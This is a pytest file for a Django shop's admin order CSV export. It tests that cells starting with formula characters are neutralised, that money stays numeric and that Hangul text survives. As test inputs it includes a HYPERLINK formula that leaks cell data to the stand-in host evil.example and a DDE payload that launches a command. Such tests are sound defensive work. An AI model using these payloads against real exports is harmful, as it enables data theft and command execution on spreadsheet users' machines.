"""The order list's CSV export never hands a spreadsheet a formula (CSV or formula injection).

Text cells that start with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return are written
with a leading single quote, so a spreadsheet shows them as text; numbers the system computes
(money) stay numbers.
"""

import csv
import io

import pytest
from django.urls import reverse

from orders import services as order_services
from orders.admin_documents import spreadsheet_safe
from orders.values import CustomerSnapshot, OrderDraft, OrderLine
from shop.values import Address
from tests.factories import ProductFactory

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'


def exported_rows(client, **filters) -> list[dict]:
    response = client.get(reverse("admin:orders_order_export"), filters)
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text)))


def test_export_neutralises_formula_cells_and_keeps_money_numeric(as_role):
    product = ProductFactory(price=12000)
    order = order_services.create_order(
        draft=OrderDraft(
            lines=[OrderLine(product=product.pk, quantity=2, unit_price=12000)],
            customer_snapshot=CustomerSnapshot(
                name=HYPERLINK, email="mallory@example.com", phone="+82 10-1234-5678"
            ),
            shipping_address=Address(
                recipient_name="@SUM(1+1)*cmd|' /C calc'!A0",
                phone="-2+3",
                postal_code="\t=1+1",
                address1="\r=2+2",
                address2="Apt 4B, = not at the start",
            ),
            shipping_amount=3000,
            discount_amount=1000,
            payment_id="pay_formula_1",
        )
    ).order

    (row,) = exported_rows(as_role("manager"))

    assert row["Order number"] == order.order_number
    assert row["Customer"] == "'" + HYPERLINK
    assert row["Phone"] == "'+82 10-1234-5678"
    assert row["Recipient"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row["Recipient phone"] == "'-2+3"
    # The service strips surrounding whitespace, so what reaches the column is the formula itself.
    assert row["Postal code"] == "'=1+1"
    assert row["Address"] == "'=2+2"
    assert row["Address line 2"] == "Apt 4B, = not at the start"  # only a leading sign counts
    assert row["Email"] == "mallory@example.com"
    # Money the system computed is written as plain numbers, never quoted.
    assert (row["Subtotal"], row["Shipping"], row["Discount"], row["Total"]) == (
        "24000",
        "3000",
        "1000",
        "26000",
    )
    assert row["Created"][:4].isdigit()  # a timestamp, untouched


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("plain", "plain"),
        ("", ""),
        (-500, -500),  # a number the system writes stays a number
        (0, 0),
        (None, None),
    ],
)
def test_spreadsheet_safe_quotes_only_text_that_starts_a_formula(value, written):
    assert spreadsheet_safe(value) == written


def test_export_starts_with_a_byte_order_mark_and_keeps_hangul(as_role):
    product = ProductFactory(price=12000)
    order_services.create_order(
        draft=OrderDraft(
            lines=[OrderLine(product=product.pk, quantity=1, unit_price=12000)],
            customer_snapshot=CustomerSnapshot(name="김민지", email="minji@example.com", phone=""),
            shipping_address=Address(
                recipient_name="김민지",
                phone="010-1234-5678",
                postal_code="04524",
                address1="서울특별시 중구 세종대로 12",
                address2="3층",
            ),
            payment_id="pay_hangul_1",
        )
    )
    response = as_role("manager").get(reverse("admin:orders_order_export"))
    raw = b"".join(response.streaming_content)
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8's BOM: Excel then reads the file as UTF-8
    assert raw.count(b"\xef\xbb\xbf") == 1
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
    assert rows[0]["Customer"] == "김민지"
    assert rows[0]["Address"] == "서울특별시 중구 세종대로 12"
